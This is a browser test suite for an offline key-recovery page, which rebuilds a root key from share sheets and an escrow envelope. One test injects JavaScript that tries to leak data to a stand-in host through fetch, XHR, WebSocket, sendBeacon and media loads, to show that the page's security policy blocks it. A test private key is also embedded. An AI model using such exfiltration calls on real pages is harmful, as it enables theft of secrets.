"""`recover.html` in real browsers, driven as a person would: Chromium and Firefox, from file://, with no network.

What its script computes is tested without a page in tests/standalone/test_recover_html.py.
"""

from __future__ import annotations

import re
import shutil
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

import rootescrow
from rootescrow.codes import encode_envelope_codes, encode_text_lines
from rootescrow.escrow import generate_passphrase, split
from rootescrow.keys import PrivateKey
from rootescrow.policy import Group, Policy
from rootescrow.shamir import Share
from rootescrow.shamir.words import WORDS
from tests.conftest import ROOT as REPOSITORY
from tests.long.browsers import (
    BACKSPACE,
    CONTROL,
    DOWN,
    ENTER,
    ESCAPE,
    SHIFT,
    SPACE,
    TAB,
    UP,
    Browser,
    chromium,
    firefox,
)
from tests.support import ROOT, collusion, forged, make, noise, torn

PAGE = Path(rootescrow.__file__).parent / "standalone" / "recover.html"
GOLDEN = REPOSITORY / "tests" / "golden" / "v1"
ENVELOPE = GOLDEN / "escrow" / "envelope.cms"
GOLDEN_PASSPHRASE = "golden sheets of format v1, a TEST"  # noqa: S105 - it stands in the folder's README
TYPED = (GOLDEN / "typed.txt").read_text()
SHEETS = [re.sub(r"[0-9.,]+|.*/[0-9]:", " ", sheet).split() for sheet in TYPED.split("\n\n")[1:6]]
ESCROW = make(size=704)
BOARD, ARBITRATION = ESCROW.shares
LANGUAGES = {"en": "Clear everything", "de": "Alles löschen", "fr": "Tout effacer", "es": "Borrar todo"}
OWN_HOSTS = re.compile(
    r"(google|googleapis|gstatic|gvt1|duckduckgo|mozilla|mozilla\.org|firefox)\.(com|org|net)[:/ ]|"
    r"detectportal|^CONNECT 127\.0\.0\.1|^$"
)
"""Whom these browsers ask for themselves, before a page is there and beside it."""


@pytest.fixture(scope="module", params=["Chromium", "Firefox"])
def browser(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory, program: Callable[[str], str]
) -> Iterator[Browser]:
    start = {"Chromium": chromium, "Firefox": firefox}[request.param]
    with start(tmp_path_factory.mktemp(request.param), program) as started:
        started.size(1280, 900)
        yield started


@pytest.fixture
def page(browser: Browser, tmp_path: Path) -> Iterator[Browser]:
    """The page, alone in a folder, just opened. Whatever is done with it, it asks nobody for anything."""
    shutil.copy(PAGE, tmp_path / "recover.html")
    (tmp_path / "elsewhere.html").write_text("<!DOCTYPE html><title>elsewhere</title><p>another page")
    elsewhere = (tmp_path / "elsewhere.html").as_uri()
    url = (tmp_path / "recover.html").as_uri()
    browser.open("about:blank")
    if browser.name == "Chromium":
        browser.requests()
    browser.open(url + "#en")
    browser.wait_for("document.querySelector('#there').innerText")
    yield browser
    assert browser.run("return location.href") in {url + f"#{language}" for language in LANGUAGES}
    assert browser.run("return [document.cookie, localStorage.length, sessionStorage.length]") == ["", 0, 0]
    if browser.name == "Chromium":
        asked = [address.partition("#")[0] for address in browser.requests() if not address.startswith("blob:")]
        assert {url} <= set(asked) <= {url, elsewhere}
    assert [line for line in browser.trap.asked if not OWN_HOSTS.search(line)] == []


@pytest.fixture(scope="module")
def axe(oracle: Callable[[str], Path]) -> str:
    (path,) = oracle("axe-core").parent.glob("lib/python*/site-packages/axe_playwright_python/axe.min.js")
    return path.read_text("utf-8")


def said(page: Browser) -> str:
    return page.text("#said")


def hear(page: Browser, text: str) -> None:
    page.wait_for("document.querySelector('#said').innerText.includes(arguments[0])", text)


def words(*shares: Share) -> str:
    return "\n".join(share.text for share in shares) + "\n"


def type_sheets(page: Browser, *sheets: list[str]) -> None:
    for sheet in sheets:
        page.keys(" ".join(sheet) + ENTER)
        hear(page, "Now compare the check code")


def done(page: Browser) -> None:
    page.wait_for("!document.querySelector('#result').hidden")


def give(page: Browser, folder: Path, *given: str | bytes) -> None:
    for number, data in enumerate(given):
        path = folder / f"given-{number}.txt"
        path.write_bytes(data if isinstance(data, bytes) else data.encode())
        page.run("document.querySelector('#said').replaceChildren()")
        page.give("#files", str(path))
        page.wait_for("document.querySelector('#said').innerText")
        path.unlink()


def saved(page: Browser) -> bytes:
    page.click("#save")
    path = page.downloads / "key.pem"
    end = time.monotonic() + 20
    while not (path.exists() and path.read_bytes().endswith(b"KEY-----\n")):
        assert time.monotonic() < end, list(page.downloads.iterdir())
        time.sleep(0.1)
    data = path.read_bytes()
    path.unlink()
    return data


# The way a person goes


def test_from_the_sheets_to_the_key(page: Browser) -> None:
    assert page.text("h1") == "The root key from its sheets"
    page.click("#word")
    type_sheets(page, *SHEETS[:2])
    assert "Group 1: 2 of 3 sheets" in page.text("#there")
    assert "Group 2: no sheet yet" in page.text("#there")
    assert page.run("return document.querySelectorAll('.box.full').length") == 2
    page.give("#files", str(ENVELOPE))
    hear(page, "The envelope of escrow 45T5-3EDP is there")
    page.click("#word")
    type_sheets(page, *SHEETS[2:])
    done(page)
    assert page.run("return document.activeElement.id") == "result-title"
    assert "Group 1: 3 of 3 sheets, complete" in page.text("#there")
    assert "2 of 2 needed groups complete" in page.text("#there")
    assert page.text("#sheets").count("belongs to the set that opened") == 5
    assert saved(page) == (GOLDEN / "key.pem").read_bytes()
    page.give("#proof-field", "wrong" + ENTER)
    page.wait_for("document.querySelector('#proof-said').innerText.includes('does not open the key')")
    page.give("#proof-field", BACKSPACE * 5 + "ü" + ENTER)
    page.wait_for("document.querySelector('#proof-said').innerText.includes('US keyboard')")
    page.give("#proof-field", BACKSPACE + GOLDEN_PASSPHRASE + ENTER)
    page.wait_for("document.querySelector('#proof-said').innerText.includes('opens the key')")
    assert page.run("return document.querySelector('#proof-field').value") == ""
    # What a person who waits leaves in the browser's files.
    time.sleep(2)
    secret = [" ".join(SHEETS[2]).lower().encode(), GOLDEN_PASSPHRASE.encode(), b"platform", b"threaten", b"testify"]
    for path in page.profile.rglob("*"):
        if path.is_file() and not path.is_symlink():
            data = path.read_bytes()
            kept = [text for text in secret[:2] if text in data or text.decode().encode("utf-16-le") in data]
            assert not kept, path
            assert not all(word in data for word in secret[2:]), path


def test_from_paper_alone(page: Browser) -> None:
    """All in one file, as people type it: words, escrow id, lines."""
    page.give("#files", str(GOLDEN / "typed.txt"))
    done(page)
    assert saved(page) == (GOLDEN / "key.pem").read_bytes()


def test_completion(page: Browser) -> None:
    page.click("#word")
    page.keys("ac")
    options = "return [...document.querySelectorAll('#choices li')].map((one) => one.innerText)"
    assert page.run(options)[:4] == ["academic", "acid", "acne", "acquire"]
    state = (
        "const field = document.querySelector('#word');"
        "return ['aria-expanded', 'aria-activedescendant'].map((name) => field.getAttribute(name))"
    )
    assert page.run(state) == ["true", None]
    page.keys(DOWN + DOWN)
    assert page.run(state) == ["true", "choice-1"]
    assert page.run("return document.querySelector('[aria-selected=true]').innerText") == "acid"
    page.keys(UP + UP)
    assert page.run("return document.querySelector('[aria-selected=true]').id").startswith("choice-")
    page.keys(DOWN + ENTER)
    assert page.text("#word-label") == "Word 2 of 33"
    assert said(page) == "Word 1: academic"
    page.keys("acid" + ESCAPE)
    assert page.run(state) == ["false", None]
    page.keys(SPACE + "yog")  # the only one that begins so
    page.keys(SPACE)
    assert said(page) == "Word 3: yoga"
    page.keys("zer")
    page.click("#choices li")
    assert said(page) == "Word 4: zero"
    page.keys("ac" + SPACE)
    assert "Several words begin like this" in said(page)
    page.keys(BACKSPACE * 2 + "sofware" + SPACE)
    assert "not in the list" in said(page)
    assert page.run("return document.querySelector('#word').getAttribute('aria-invalid')") == "true"
    assert page.run(options)[0] == "software"
    page.keys(DOWN + ENTER)
    assert said(page) == "Word 5: software"
    page.keys(BACKSPACE)  # in an empty field: back to the last word
    assert page.run("return document.querySelector('#word').value") == "software"
    page.keys(BACKSPACE * 8 + "12 wolf 2 yoga ")
    cells = page.run("return [...document.querySelectorAll('#words button')].map((one) => one.innerText.trim())")
    assert [cells[0], cells[1], cells[11], cells[4]] == ["1 academic", "2 yoga", "12 wolf", "5 software"]
    assert page.text("#word-label") == "Word 6 of 33"
    page.keys("34 ")
    assert "There is no word 34" in said(page)
    page.click("#anew")
    assert page.text("#word-label") == "Word 1 of 33"


def test_a_wrong_word_and_how_it_is_mended(page: Browser) -> None:
    page.click("#word")
    wrong = [*SHEETS[0][:6], "zero", *SHEETS[0][7:]]
    page.keys(" ".join(wrong) + ENTER)
    hear(page, "it is word 7")
    assert page.run("return document.querySelector('.suspect').innerText") == "7 zero"
    page.keys("acid ")
    assert "All 33 words are typed" in said(page)
    page.keys(BACKSPACE * 5)
    page.run("document.querySelector('#word').value = ''")
    page.click("#words li:nth-child(7) button")
    assert page.text("#word-label") == "Word 7 of 33"
    page.keys(SHEETS[0][6] + SPACE)
    hear(page, "The checksum is right")
    assert page.text("#sheets .check") in said(page)
    # A sheet that was taken is opened again, or taken away.
    page.click("#sheets button:nth-of-type(1)")
    assert page.text("#sheets") == ""
    page.keys("33 acid ")
    hear(page, "it is word 33")
    page.keys(f"33 {SHEETS[0][32]} ")
    hear(page, "The checksum is right")
    page.click("#sheets button:nth-of-type(2)")
    hear(page, "is taken away")
    assert "No sheet yet" in page.text("#there")
    # What is said of a refused word is to be read: the list of words does not lie over it.
    page.keys("acrobet ")
    hear(page, "not in the list")
    said_ends, list_begins, list_ends = page.run(
        "const list = document.querySelector('#choices').getBoundingClientRect();"
        "return [document.querySelector('#said').getBoundingClientRect().bottom, list.top, list.bottom]"
    )
    assert said_ends <= list_begins < list_ends
    # And when the list goes, as it does at a click elsewhere, nothing moves away from under the mouse.
    page.click("#anew")
    assert page.text("#word-label") == "Word 1 of 33"
    assert page.run("return document.querySelector('#word').value") == ""


def test_words_that_nobody_can_read(page: Browser) -> None:
    page.click("#word")
    unread = ["?" if place in (3, 17, 32) else word for place, word in enumerate(SHEETS[0])]
    page.keys(" ".join(unread) + ENTER)
    hear(page, "Proposed, not proven")
    assert "word 4, 18, 33 was found, not yet proven" in page.text("#sheets")
    type_sheets(page, *SHEETS[1:])
    page.give("#files", str(ENVELOPE))
    done(page)
    assert "word 4, 18, 33 was found and is proven" in page.text("#sheets")
    page.keys(" ".join(["? ? ? ?", *SHEETS[1][4:]]) + ENTER)
    hear(page, "at most three")


def paste(page: Browser, text: str) -> None:
    """Copied on another page, with the keys that everybody knows, and put into this one, opened again."""
    here = page.run("return location.href")
    page.open(here.replace("recover.html#en", "elsewhere.html"))
    page.run(
        "const area = document.createElement('textarea'); area.value = arguments[0]; "
        "document.body.append(area); area.focus(); area.select()",
        text,
    )
    page.keys("c", CONTROL)
    page.open(here)
    page.click("#word")
    page.keys("v", CONTROL)


def test_paste_and_drop(page: Browser) -> None:
    """Files are dropped as if they were let go over the page."""
    paste(page, "\n".join(" ".join(sheet) for sheet in SHEETS[:4]))
    hear(page, "The checksum is right")
    assert "Group 1: 3 of 3" in page.text("#there")
    drop = """
    const transfer = new DataTransfer();
    if (arguments[1]) transfer.items.add(new File([Uint8Array.from(arguments[0])], arguments[1]));
    else transfer.setData("text", arguments[0]);
    const event = new DragEvent("drop", { dataTransfer: transfer, bubbles: true, cancelable: true });
    document.querySelector("h1").dispatchEvent(event);
    """
    page.run(drop, list(ENVELOPE.read_bytes()), "envelope.cms")
    hear(page, "envelope.cms: The envelope of escrow 45T5-3EDP is there")
    page.run(drop, " ".join(SHEETS[4]), "")
    done(page)
    # A few words out of a text go into the sheet that is being typed.
    paste(page, " 1. total 2. olympic\n3. acrobat")
    assert page.text("#word-label") == "Word 4 of 33"


def test_a_hand_held_scanner(page: Browser) -> None:
    """It types wherever the focus is, ends with Enter, and swaps Y and Z where the keyboards differ."""
    codes = encode_envelope_codes(ESCROW.id, ESCROW.envelope.der)
    assert len(codes) == 2
    page.run("document.querySelector('#clear').focus()")
    page.keys(codes[0].translate(str.maketrans("YZ", "ZY")) + ENTER)
    hear(page, "Envelope code 1 of 2 is taken")
    assert "Envelope: 1 of 2 codes. Missing: 2; or instead the lines 0" in page.text("#there")
    for share in (*BOARD[:3], ARBITRATION[0]):
        page.keys(share.text.translate(str.maketrans("yz", "zy")) + ENTER)
        hear(page, "The checksum is right")
    page.keys(ARBITRATION[1].text + ENTER)
    page.wait_for("document.querySelector('#there').innerText.includes('and its envelope is missing')")
    page.keys(codes[1].translate(str.maketrans("YZ", "ZY")) + ENTER)
    done(page)
    assert saved(page) == ESCROW.encrypted.pem().encode()


def test_lines_typed_by_hand(page: Browser) -> None:
    lines = encode_text_lines(ESCROW.id, ESCROW.envelope.der)
    page.click("#word")
    page.keys(lines[0] + ENTER)
    hear(page, "not yet checked. Type the escrow id")
    page.keys(str(ESCROW.id) + ENTER)
    hear(page, "Lines are now checked")
    assert "002–0" in page.text("#there")
    page.keys(lines[1].lower().replace("b", "8") + ENTER)
    hear(page, "Line 002 is right")
    page.keys(f"004{lines[2][3:]}" + ENTER)
    hear(page, "Line 004 is wrong")
    page.run("document.querySelector('#word').value = ''")
    page.keys("".join(line + ENTER for line in lines[2:]))
    hear(page, f"Line {len(lines):03} is right")
    assert "all codes and lines are there" in page.text("#there")


def test_what_is_refused(page: Browser, tmp_path: Path) -> None:
    give(page, tmp_path, ENVELOPE.read_bytes()[:-1])
    assert "damaged, or a file of another kind" in said(page)
    give(page, tmp_path, b"%PDF-1.7")
    assert "reads text only" in said(page)
    give(page, tmp_path, "dear diary")
    assert "nothing of an escrow" in said(page)
    give(page, tmp_path, bytes(2 << 20))
    assert "over 1 MiB" in said(page)
    give(page, tmp_path, (GOLDEN / "key.pem").read_bytes())
    assert "already is a key" in said(page)
    give(page, tmp_path, " ".join(SHEETS[0]), ESCROW.envelope.der)
    page.wait_for("document.querySelector('#there').innerText.includes('does NOT belong to these sheets')")
    assert "If they are headed PASSPHRASE, that is right" in page.text("#there")
    other = bytearray(ENVELOPE.read_bytes())
    other[-20] ^= 1
    give(page, tmp_path, bytes(other), "\n\n".join(" ".join(sheet) for sheet in SHEETS))
    page.wait_for("document.querySelector('#there').innerText.includes('does not open')")
    assert page.run("return document.querySelector('#result').hidden")
    assert page.run("return document.querySelector('#save').getAttribute('href')") is None
    give(page, tmp_path, ENVELOPE.read_bytes())
    done(page)


def test_forged_sheets(page: Browser, tmp_path: Path) -> None:
    bad = forged(BOARD[1])
    give(page, tmp_path, words(bad, *BOARD[3:], *ARBITRATION[:2]), ESCROW.envelope.der)
    page.wait_for("document.querySelector('#there').innerText.includes('do not fit together')")
    assert "NOT fit" not in page.text("#sheets"), "a digest accuses nobody"
    assert "Group 1: 3 of 3 sheets\n" in page.text("#there")
    assert "1 of 2 needed groups complete" in page.text("#there")
    give(page, tmp_path, words(BOARD[0]))
    done(page)
    assert page.text("#sheets li.bad").count("does NOT fit the others of its group") == 1
    # Whoever forges a set and its envelope gets nothing given out, the true one neither.
    forgers = collusion(ESCROW, same_set=True)
    give(page, tmp_path, words(*forgers.shares[0][2:], *forgers.shares[1][1:]), forgers.envelope.der)
    page.wait_for("document.querySelector('#there').innerText.includes('Several keys come out')")
    assert page.run("return document.querySelector('#result').hidden")
    assert page.run("return document.querySelector('#save').getAttribute('href')") is None


def test_sheets_of_a_passphrase_and_its_key(page: Browser, tmp_path: Path) -> None:
    """At the full cost of scrypt, as it is on real sheets."""
    passphrase, made = generate_passphrase(Policy(Group("Keepers", 2, 3), Group("Others", 2, 2)), rng=noise(5))
    letters = bytes(passphrase.reveal()).decode()
    give(page, tmp_path, words(*made.shares[0][1:], *made.shares[1]))
    page.wait_for("!document.querySelector('#passphrase').hidden")
    assert page.run("return document.activeElement.id") == "passphrase-title"
    grouped = " ".join(letters[start : start + 5] for start in range(0, 30, 5))
    assert letters[:5] not in page.text("body")
    page.click("#reveal")
    assert page.text("#letters") == grouped
    page.click("#reveal")
    assert letters[:5] not in page.text("body")
    private = PrivateKey.load(b"""-----BEGIN PRIVATE KEY-----
MC4CAQAwBQYDK2VwBCIEINTuctv5E1hK1bbY8fdp+K06/nwoy/HU++CXqI9EdVhC
-----END PRIVATE KEY-----
""")
    escrow = split(private.encrypt(letters), ROOT, rng=noise(6))
    give(page, tmp_path, escrow.envelope.der, words(*escrow.shares[0][:3], *escrow.shares[1][:2]))
    done(page)
    # Both sets have a group 1 with a sheet 3: the first words, which are all that a set shares, tell which is which.
    for share in (made.shares[0][2], escrow.shares[0][2]):
        assert f"Group 1, sheet 3 ({' '.join(share.words[:2])} …)" in page.text("#sheets")
    page.click("#proof-button")
    page.wait_for("document.querySelector('#proof-progress').value > 0.05")
    page.wait_for("document.querySelector('#proof-said').innerText.includes('opens the key')")


# The camera


DETECTOR = """
window.BarcodeDetector = class {
  constructor(options) { window.formats = options.formats; }
  async detect(source) {
    if (!(source instanceof HTMLVideoElement)) throw new TypeError("no video");
    return (window.before || []).map((rawValue) => ({ rawValue }));
  }
};
"""


def test_there_is_no_camera_button_without_a_detector(page: Browser) -> None:
    assert page.run("return 'BarcodeDetector' in window") is False
    assert page.run("return document.querySelector('#camera').hidden") is True
    assert "Envelope codes are not secret" in page.text("body")
    assert "let no phone see them" in page.text("body")


def test_the_camera_reads_codes_and_no_share(page: Browser) -> None:
    if page.name != "Chromium":
        pytest.skip("what is injected before a page runs is injected with Chromium's DevTools")
    made = page.devtools("Page.addScriptToEvaluateOnNewDocument", {"source": DETECTOR})
    here = page.run("return location.href")
    page.open("about:blank")
    page.open(here)
    page.click("#camera")
    page.wait_for("window.formats && !document.querySelector('#video').hidden")
    assert page.run("return window.formats") == ["qr_code"]
    codes = encode_envelope_codes(ESCROW.id, ESCROW.envelope.der)
    page.run("window.before = arguments[0]", [codes[0]])
    hear(page, "Envelope code 1 of 2 is taken")
    page.run("window.before = arguments[0]", [codes[0], BOARD[0].text])
    hear(page, "That was no envelope code")
    assert page.text("#sheets") == ""
    page.run("window.before = arguments[0]", [codes[1]])
    hear(page, "Envelope code 2 of 2 is taken")
    assert "all codes and lines are there" in page.text("#there")
    assert page.text("#camera") == "Switch the camera off"
    page.click("#camera")
    assert page.run("return document.querySelector('#video').srcObject") is None
    page.devtools("Page.removeScriptToEvaluateOnNewDocument", {"identifier": made["identifier"]})


# With a keyboard, a small screen, a screen reader, another language


def test_with_the_keyboard_alone(page: Browser) -> None:
    """Every control is reached with Tab, shows that it is, and works with keys."""
    seen = []
    focus = "return document.activeElement.id || document.activeElement.tagName"
    outline = "const s = getComputedStyle(document.activeElement); return [s.outlineStyle, parseFloat(s.outlineWidth)]"
    page.run("document.body.focus()")
    for _ in range(7):
        page.keys(TAB)
        name = page.run(focus)
        seen.append(name)
        style, width = page.run(outline)
        assert (style, width >= 2) == ("solid", True), name
    assert seen == ["language", "clear", "word", "BUTTON", "BUTTON", "anew", "files"]
    # The words are one stop, and arrows move among them.
    page.run("document.querySelector('#word').focus()")
    page.keys("total olympic acrobat " + TAB + TAB)
    assert page.run("return document.activeElement.innerText.trim()") == "4"
    page.keys(UP + UP)
    assert page.run("return document.activeElement.innerText.trim()") == "2 olympic"
    page.keys(ENTER)
    assert page.run(focus) == "word"
    assert page.text("#word-label") == "Word 2 of 33"
    page.keys("olympic " + " ".join(SHEETS[0][3:]) + ENTER)
    page.keys("".join(" ".join(sheet) + ENTER for sheet in SHEETS[1:]))
    page.run("document.querySelector('#files').focus()")
    page.give("#files", str(ENVELOPE))
    done(page)
    page.keys(TAB)
    assert page.run(focus) == "save"
    page.keys(TAB)
    assert page.run(focus) == "proof-field"
    page.keys(GOLDEN_PASSPHRASE + ENTER)
    page.wait_for("document.querySelector('#proof-said').innerText.includes('opens the key')")
    page.keys(TAB, SHIFT)
    assert page.run(focus) == "save"


def test_on_a_small_screen(page: Browser, tmp_path: Path) -> None:
    """320 pixels wide, nothing has to be scrolled sideways, and what is to be pressed can be hit."""
    if page.name != "Chromium":
        pytest.skip("a window of Firefox is never as narrow")
    try:
        page.size(320, 700)
        states: list[tuple[str | bytes, ...]] = [
            (),
            (words(*BOARD[:2]), torn(ARBITRATION[0], 3)),
            (words(forged(BOARD[2])),),
        ]
        states += [(ESCROW.envelope.der, words(BOARD[2], *ARBITRATION[:2]))]
        for given in states:
            give(page, tmp_path, *given)
            for language in LANGUAGES:
                choose(page, language)
                assert page.run("return document.scrollingElement.scrollWidth") <= 320, (given, language)
                small = page.run(
                    "return [...document.querySelectorAll('button, a, input, select')]"
                    ".filter((one) => one.offsetParent)"
                    ".map((one) => [one.id || one.innerText, one.offsetWidth, one.offsetHeight])"
                    ".filter(([, width, height]) => width < 24 || height < 24)"
                )
                assert small == []
            choose(page, "en")
        assert not page.run("return document.querySelector('#result').hidden")
    finally:
        page.size(1280, 900)


def choose(page: Browser, language: str) -> None:
    page.run(
        "const list = document.querySelector('#language'); list.value = arguments[0];"
        "list.dispatchEvent(new Event('change'))",
        language,
    )


def test_axe_finds_nothing(page: Browser, axe: str, tmp_path: Path) -> None:
    """In each state of the page and each language: WCAG 2.2, A and AA, and what axe holds for good practice."""
    page.run(axe + "; window.axe = axe")

    def look(state: str) -> None:
        page.run("window.found = null; axe.run(document).then(({ violations }) => { window.found = violations; })")
        found = page.wait_for("window.found && { violations: window.found }")["violations"]
        assert [(one["id"], one["nodes"][0]["html"]) for one in found] == [], state

    look("begin")
    page.click("#word")
    page.keys("total olympic ac")
    look("completion")
    page.keys("x ")
    look("error")
    page.run("document.querySelector('#word').value = ''")
    give(page, tmp_path, words(*BOARD[:2], forged(BOARD[2])), torn(ARBITRATION[0], 3), "dear diary")
    for language in LANGUAGES:
        choose(page, language)
        look(f"half, {language}")
    give(page, tmp_path, words(BOARD[3], ARBITRATION[1]), ESCROW.envelope.der)
    done(page)
    page.give("#proof-field", "ü" + ENTER)
    _, made = generate_passphrase(Policy(Group("Keepers", 2, 3)), rng=noise(5))
    for language in LANGUAGES:
        choose(page, language)
        look(f"done, {language}")
    give(page, tmp_path, words(*made.shares[0][1:]))
    page.wait_for("!document.querySelector('#passphrase').hidden")
    page.click("#reveal")
    look("passphrase")


def test_every_language(page: Browser, tmp_path: Path) -> None:
    give(page, tmp_path, words(*BOARD[:2]))
    page.keys("nonsense ")
    texts = {}
    for language, clear in LANGUAGES.items():
        choose(page, language)
        assert page.run("return document.documentElement.lang") == language
        assert page.text("#clear") == clear
        assert page.text("#words")
        texts[language] = page.text("main")
    english = set(texts["en"].split("\n"))
    for language in ("de", "fr", "es"):
        shared = {line for line in english & set(texts[language].split("\n")) if re.search("[a-z]{4}", line)}
        assert not {line for line in shared if "openssl" not in line and line not in WORDS}, language
    address = page.run("return location.href").partition("#")[0]
    for language in LANGUAGES:
        page.open("about:blank")
        page.open(f"{address}#{language}")
        assert page.run("return document.documentElement.lang") == language


def test_it_warns_of_a_network(page: Browser) -> None:
    page.offline(yes=False)
    page.wait_for("document.querySelector('#network').innerText.includes('This computer has a network')")
    try:
        page.offline(yes=True)
        page.wait_for("document.querySelector('#network').innerText.includes('sees no network')")
    finally:
        page.offline(yes=False)
    page.wait_for("document.querySelector('#network').innerText.includes('This computer has a network')")


# What stays, and what leaves


def test_clear_wipes_the_page(page: Browser) -> None:
    page.give("#files", str(GOLDEN / "typed.txt"))
    done(page)
    page.give("#word", "total olympic acr")
    page.give("#proof-field", "secret")
    page.click("#clear")
    assert "will be gone" in page.answer(yes=False)
    assert page.run("return document.querySelector('#proof-field').value") == "secret"
    page.click("#clear")
    page.answer(yes=True)
    page.wait_for("performance.getEntriesByType('navigation')[0].type === 'reload'")
    page.wait_for("document.querySelector('#there').innerText.includes('No sheet yet')")
    assert page.run("return [...document.querySelectorAll('input')].map((field) => field.value)") == ["", "", ""]
    shown = page.text("body")
    assert not [word for word in ("olympic", "acrobat", "45T5", "E7KI") if word in shown]


def test_no_connection_can_be_made(page: Browser) -> None:
    """Even if something wrong ran in the page, the policy would not let it out; nor can it put HTML in.

    Not tried is what no policy of a page forbids: to leave for another page. Nothing in the script does.
    """
    attempts = """
    window.stopped = []; window.refused = 0;
    document.addEventListener("securitypolicyviolation", (event) => stopped.push(event.effectiveDirective));
    const refuse = () => { window.refused++; };
    fetch("https://leak.invalid/fetch").catch(refuse);
    const request = new XMLHttpRequest(); request.onerror = refuse;
    request.open("GET", "https://leak.invalid/xhr"); request.send();
    try { new WebSocket("wss://leak.invalid/socket").onerror = refuse; } catch { refuse(); }
    try { new EventSource("https://leak.invalid/events").onerror = refuse; } catch { refuse(); }
    navigator.sendBeacon("https://leak.invalid/beacon", "x");
    for (const tag of ["img", "video"]) {
      const made = document.createElement(tag); made.src = "https://leak.invalid/" + tag; document.body.append(made);
    }
    const sheet = document.createElement("link"); sheet.rel = "stylesheet"; sheet.href = "https://leak.invalid/css";
    document.head.append(sheet);
    """
    page.run(attempts)
    page.wait_for("stopped.length >= 8 && refused >= 4")
    stopped = set(page.run("return stopped"))
    assert {"connect-src", "img-src", "media-src", "style-src-elem"} <= stopped
    time.sleep(1)
    assert not [line for line in page.trap.asked if "leak.invalid" in line]
    inject = "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')"
    assert page.run(f"try {{ {inject}; return 'done' }} catch (error) {{ return error.name }}") == "TypeError"
    here = page.run("return location.href")
    # The trap does catch what is let out, from a page without this policy.
    page.open(here.replace("recover.html#en", "elsewhere.html"))
    page.run("fetch('http://let.out.invalid/').catch(() => {})")
    end = time.monotonic() + 20
    while not [line for line in page.trap.asked if "let.out.invalid" in line]:
        assert time.monotonic() < end
        time.sleep(0.05)
    page.trap.asked[:] = [line for line in page.trap.asked if "let.out.invalid" not in line]
    page.open("about:blank")
    if page.name == "Chromium":
        page.requests()
    page.open(here.partition("#")[0] + "#en")


def test_a_browser_that_gives_no_cryptography(page: Browser) -> None:
    if page.name != "Chromium":
        pytest.skip("what is injected before a page runs is injected with Chromium's DevTools")
    source = "Object.defineProperty(Crypto.prototype, 'subtle', { value: undefined })"
    made = page.devtools("Page.addScriptToEvaluateOnNewDocument", {"source": source})
    here = page.run("return location.href")
    page.open("about:blank")
    page.open(here)
    assert "nothing can be recovered here" in page.text("#impossible")
    page.give("#files", str(GOLDEN / "typed.txt"))
    hear(page, "The checksum is right")
    assert page.run("return document.querySelector('#result').hidden")
    page.devtools("Page.removeScriptToEvaluateOnNewDocument", {"identifier": made["identifier"]})


def test_a_mistake_in_the_page_is_said(page: Browser) -> None:
    """Something that nobody thought of, such as a drop of nothing at all: its kind is shown, never its text."""
    page.run("document.dispatchEvent(new Event('drop'))")
    hear(page, "Something went wrong in this page (TypeError)")
    assert "dataTransfer" not in said(page)
    assert said(page).endswith("recover.py.")
